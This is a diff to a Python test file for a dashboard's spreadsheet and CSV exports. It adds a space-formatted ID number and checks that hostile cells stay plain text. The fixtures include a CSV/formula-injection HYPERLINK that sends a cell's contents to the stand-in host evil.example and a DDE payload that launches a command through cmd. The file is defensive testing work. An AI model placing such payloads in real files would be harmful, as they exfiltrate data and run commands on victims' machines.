@@ -31,6 +31,8 @@ LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")'
 PHONE_LIKE = "+6281234567890"
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
 NIP = "198609262015051001"
+# As the desk's sheet prints it: a spreadsheet keeps it as text (bare digits become 1.98609E+17).
+PRINTED_NIP = "19860926 201505 1 001"
 
 
 @pytest.mark.parametrize(
@@ -89,7 +91,7 @@ def test_dashboard_xlsx_keeps_hostile_text_as_text(hq: Hq) -> None:
         assert hostile, path
         assert all(c.data_type == "s" and c.quotePrefix for c in hostile), path
     values = [cell.value for row in sheet.iter_rows() for cell in row]
-    assert {LINK, PHONE_LIKE, DDE, NIP, "-"} <= set(values)  # shown exactly as typed
+    assert {LINK, PHONE_LIKE, DDE, PRINTED_NIP, "-"} <= set(values)  # shown as typed
     assert 1 in values  # the day stays a number
 
 
@@ -101,7 +103,7 @@ def test_dashboard_csv_prefixes_hostile_cells_with_an_apostrophe(hq: Hq) -> None
     rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
     cells = [cell for row in rows[1:] for cell in row]
     assert "'" + LINK in cells and "'" + PHONE_LIKE in cells and "'" + DDE in cells
-    assert NIP in cells and "-" in cells and "1" in cells
+    assert PRINTED_NIP in cells and NIP not in cells and "-" in cells and "1" in cells
     assert not [c for c in cells if is_formula_like(c)]
     events = browser.get(f"{hq.url}/dashboard/export/events.csv", timeout=10)
     titles = [
